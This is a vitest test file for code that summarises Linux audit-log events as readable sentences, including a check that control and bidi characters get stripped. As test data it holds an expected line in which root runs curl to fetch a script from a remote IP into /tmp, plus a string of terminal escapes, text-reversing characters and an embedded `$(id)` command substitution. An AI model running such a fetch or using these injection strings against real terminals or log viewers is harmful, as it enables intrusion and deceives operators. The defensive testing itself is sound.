import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { messageTypeTable } from '../../../core/src/facts/rules/messageTypes.generated';
import { roleOf } from '../../../core/src/events/recordTypes';
import { summarise } from '../../../core/src/events/sentence';
import { inRepository } from '../../kit/repository';
import { bytes, collect, eventOf } from './events';

const shortened = (text: string) => (text.length > 200 ? `${text.slice(0, 200)}\u2026` : text);

describe('an event in a sentence', () => {
  // `vitest -u` writes them anew; read the difference before it is kept.
  it.each(['central', 'kinds', 'sentences'])('%s.log reads as it did', async (name) => {
    const events = collect(readFileSync(inRepository('test/data/logs', `${name}.log`)));
    const lines = events.map((event) => {
      const { sentence, user, outcome, result, key } = summarise(event);
      return [`${event.node ?? '-'}:${event.serial}`, shortened(sentence), user, outcome, result, key].join(' | ');
    });
    await expect(`${lines.join('\n')}\n`).toMatchFileSnapshot(inRepository('test/data/logs', `${name}.sentences.txt`));
  });

  it('is there for every type of record that stands alone', () => {
    const types = messageTypeTable
      .trim()
      .split('\n')
      .map((row) => row.split(' ')[0] ?? '');
    const alone = types.filter((type) => roleOf(type) !== 'part' && !['EOE', 'PROCTITLE'].includes(type));
    expect(alone.length).toBeGreaterThan(120);
    const without = alone.filter((type) => {
      const { sentence } = summarise(eventOf(`type=${type} msg=audit(1.000:1): pid=1 uid=0`));
      return sentence.startsWith(type.toLowerCase().replaceAll('_', ' '));
    });
    expect(without).toEqual([]);
  });

  it('says who, as whom, what, and how it went', () => {
    const [event] = collect(readFileSync(inRepository('test/data/logs/kinds.log'))).filter(
      ({ serial, node }) => serial === 100 && node === 'web1',
    );
    expect(event && summarise(event)).toEqual({
      sentence: 'ran /usr/bin/curl -s http://198.51.100.7/x.sh in /tmp',
      summary: 'deploy as root ran /usr/bin/curl -s http://198.51.100.7/x.sh in /tmp: success',
      user: 'deploy \u2192 root',
      outcome: 'success',
      result: 'success',
      key: 'commands',
    });
  });

  it('is open while nothing says how it went', () => {
    const { records, ...event } = eventOf('type=CWD msg=audit(1.000:1): cwd="/"');
    expect(summarise({ ...event, records, completion: null })).toMatchObject({ outcome: 'open', result: 'open' });
  });

  it('has no character that steers a terminal or turns text around', () => {
    const hostile = Buffer.from('\x1b[2Jrm\u202e\u2066x\r\n`$(id)`<b>').toString('hex').toUpperCase();
    const stamp = 'msg=audit(1.000:1):';
    const event = eventOf(
      `type=SYSCALL ${stamp} arch=c000003e syscall=59 success=yes exit=0 uid=0 auid=0 exe="/x" key=${hostile}\x1dUID="\x1b[31m" AUID="\u202er"`,
      `type=EXECVE ${stamp} argc=1 a0=${hostile}`,
    );
    const { sentence, summary, user, key } = summarise(event);
    for (const text of [sentence, summary, user, key])
      expect(text).not.toMatch(/[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/);
    expect(sentence).toContain('\u241b[2Jrm\u2039U+202E\u203a');
  });

  it('stays short for a record of a megabyte', () => {
    const [event] = collect(bytes(`type=EXECVE msg=audit(1.000:1): argc=1 a0="${'x'.repeat(1_000_000)}"\n`));
    expect(event && summarise(event).sentence.length).toBeLessThan(2100);
  });
});
